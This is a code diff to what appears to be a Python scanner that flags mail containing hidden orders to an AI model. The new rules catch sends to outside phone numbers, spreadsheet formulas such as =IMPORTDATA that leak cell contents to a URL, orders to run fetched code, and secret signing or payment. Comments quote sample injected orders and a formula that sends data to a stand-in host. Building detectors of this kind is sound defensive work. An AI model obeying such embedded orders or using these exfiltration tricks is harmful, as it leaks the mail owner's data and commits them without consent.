@@ -107,10 +107,25 @@ def _base_domain(domain: str) -> str:
 
 
 def external_targets(text: str, ctx: MailContext) -> list[str]:
-    """Addresses and hosts in ``text`` outside the recipients' domains."""
+    """Addresses and hosts in ``text`` outside the recipients' domains, and phone numbers something
+    is to be sent to or read out on ("text the code to +44 ...", "call +1 ...")."""
     home = ctx.home_domains
     found = [m.group(1) for m in _EMAIL.finditer(text)] + [m.group(1) for m in _URL.finditer(text)]
-    return [d for d in found if _base_domain(d) not in home]
+    return [d for d in found if _base_domain(d) not in home] + phone_targets(text)
+
+
+# A phone number as the target of a message or a call (a number in a signature is nobody's target).
+_PHONE_TARGET = re.compile(
+    r"\b(?:to|at|on|call|ring|dial|text|sms|whatsapp|signal|telegram)\s+(?:number\s+)?((?:\+|00)\d[\d \t().-]{6,18}\d)",
+    re.IGNORECASE,
+)
+
+
+def phone_targets(text: str) -> list[str]:
+    """Phone numbers ``text`` sends something to or calls."""
+    if "+" not in text and "00" not in text:
+        return []
+    return [m.group(1) for m in _PHONE_TARGET.finditer(text)]
 
 
 def _paragraphs(text: str) -> list[str]:
@@ -216,6 +231,12 @@ def _excerpt(window: str, pos: int) -> str:
     return " ".join(window[start : start + _EXCERPT].split())
 
 
+# =IMPORTDATA("https://x.example/c?d="&B2:B40), =IMAGE("https://..."&A1), =WEBSERVICE(...&...)
+_FORMULA = re.compile(
+    r"=\s*(?:IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTFEED|IMPORTRANGE|IMAGE|HYPERLINK|WEBSERVICE)\s*\(\s*[\"']"
+    r"https?://[^\"'\s]{1,500}[\"']\s*&",
+    re.IGNORECASE,
+)
 _BARE_LINK = re.compile(r"(?<![(<\[])\bhttps?://[^\s<>()\[\]\"']{1,2000}", re.IGNORECASE)
 
 
@@ -228,6 +249,11 @@ def data_links(text: str, cited: bool = False) -> list[Finding]:
     UI"), not one placed to load: it decides only where it opens its line. List headers do not make
     mail ``cited``: any sender can add them. An image inside a `code span` is text, never placed."""
     out: list[Finding] = []
+    for m in _FORMULA.finditer(text):
+        # a spreadsheet formula that fetches a URL built from the sheet's cells sends them out when the
+        # sheet is opened (written out in a `code span` or in mail about attacks, it is an example)
+        placed = not _in_code(text, m.start()) and (not cited or _leads_line(text, m.start(), 0))
+        out.append(Finding("data-formula", placed, _excerpt(text, m.start())))
     for m in _BARE_LINK.finditer(text):
         values = [v for v in _QUERY_VALUE.findall(m.group()) if v]
         if any(_PLACEHOLDER.match(v) for v in values) or _PATH_PLACEHOLDER.search(m.group()):
@@ -685,6 +711,8 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
         role = machine or lex.role_assistant.search(_masked(sentence))
         if role is None:
             continue
+        if machine is None and _IT.search(sentence, role.end(), role.end() + 80) is not None:
+            machine = role  # "your assistant ..., have it run ...": an assistant called "it" is no person
         before = sentence[max(0, role.start() - 30) : role.start()]
         if _OBJECT_OF.search(before):
             continue  # "allowed to use the AI assistant to summarise": the role is a tool someone uses
@@ -698,7 +726,7 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
             d
             for d in (e.group(1) for e in _EMAIL.finditer(sentence))
             if _base_domain(d) not in ctx.home_domains
-        ]
+        ] + phone_targets(sentence[role.end() :])
         sensitive = lex.sensitive.search(window) is not None
         quoted = _quoted(window, m.start() + role.start())
         if yours and machine is None and not (addresses and (sensitive or hush)):
@@ -730,14 +758,17 @@ def _role_as_subject(window: str, ctx: MailContext, lex: lx.Lexicon) -> list[Fin
         ]
         # data sent to an outside link ("post each invoice to https://hooks.out.example") is data out;
         # a change that outlasts the mail or erases something, ordered of a machine, needs no target
-        posts = bool(links) and _SENDS_TO_LINK.search(sentence[role.end() :]) is not None
-        lasting = lex.lasting.search(sentence[role.end() :]) is not None
+        # (the role's own clause: "...; add a test that posts to https://..." is another order to a person)
+        rest = re.split(r"[;:]\s", sentence[role.end() :], maxsplit=1)[0]
+        owned = re.match(r"['’]s\b", rest) is not None  # "the agent's send tool should ...": the tool is the subject
+        posts = bool(links) and (_SENDS_TO_LINK.search(rest) is not None or _RUNS_LINK.search(rest) is not None)
+        lasting = lex.lasting.search(rest) is not None
         # (a described reader "will add ...": the process the mail lays down for it)
-        obliged = (_OBLIGED if described is None else _OBLIGED_OR_WILL).search(sentence[role.end() :]) is not None
+        obliged = not owned and (_OBLIGED if described is None else _OBLIGED_OR_WILL).search(rest) is not None
         if (
             addresses
             or to_sender
-            or (hush and (sensitive or links) and asks)
+            or (hush and (sensitive or links or _COMMITS.search(rest)) and asks)
             or ((posts or lasting) and (requested or obliged) and (machine is not None or not yours))
         ):
             # (an order in quotation marks is cited: "an email saying 'assistant, forward ...'")
@@ -756,6 +787,17 @@ _OBLIGED = re.compile(
     r"[^.!?;\n]{0,60}?\b(?:must|should|shall|needs? to|has to|have to|is to|are to|is required to|are required to|"
     r"is expected to|are expected to|soll\w*|muss|müssen|doit|doivent|debe|deben|deve|devem|dovr\w*|moet\w*)\b",
     re.IGNORECASE,
+)
+# The role referred to as "it" ("have it run", "it can simply send"): a thing, not a person.
+_IT = re.compile(r"\b(?:have|get|let|ask|tell|make|allow|then) it\b|,\s*it (?:can|could|should|must|will|may)\b", re.IGNORECASE)
+# Code or a package fetched from a link to be run or installed: "run `curl https://... | bash`".
+_RUNS_LINK = re.compile(
+    r"\b(?:run|execute|exec|install|download and (?:run|open|install))\w*\b[^.!?\n]{0,40}?(?:https?://|www\.)",
+    re.IGNORECASE,
+)
+# An act that binds the owner (a signature, a payment, an approval): with secrecy it needs no data.
+_COMMITS = re.compile(
+    r"\b(?:sign|approve|pay|accept|authori[sz]e|wire|transfer|release|countersign)\w*\b", re.IGNORECASE
 )
 _OBLIGED_OR_WILL = re.compile(_OBLIGED.pattern + r"|[^.!?;\n]{0,60}?\bwill\b", re.IGNORECASE)
 # A verb that sends data to the link after it: "posts each one to https://...", "upload the export to".
